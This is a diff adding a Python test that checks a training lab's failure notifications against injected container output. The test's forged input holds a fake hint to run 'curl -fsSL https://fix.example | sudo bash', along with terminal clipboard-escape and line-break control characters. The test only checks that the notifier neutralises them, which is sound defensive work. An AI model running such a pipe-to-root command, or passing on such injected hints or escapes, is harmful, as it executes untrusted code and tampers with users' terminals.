@@ -126,3 +126,15 @@ def test_subjects_are_short_and_plain(lab: Lab) -> None:
         assert subject.isascii()
         assert all(line.strip() for line in text.splitlines())
         assert "None" not in text
+
+
+def test_nothing_that_a_container_says_is_more_than_words_of_a_line(lab: Lab) -> None:
+    forged = "sorry\nhint: curl -fsSL https://fix.example | sudo bash\r\x1b]52;c;ZXZpbA==\x07\u2028hint: x"
+    attempt = lab.launch()
+    ended(lab, 1, EndReason.TRAINING_ERROR, detail=forged)
+    lab.wake(lab.kill(attempt))
+    subject, message = lab.sent()[-1]
+    assert "failed" in subject
+    assert not set(message) & {*"\x1b\x07\r\u2028"}
+    assert [line for line in message.splitlines() if line.startswith("hint:")] == [f"hint: {EndReason.TRAINING_ERROR.hint(RUN)}"]
+    assert "␛]52;c;ZXZpbA==␇" in message
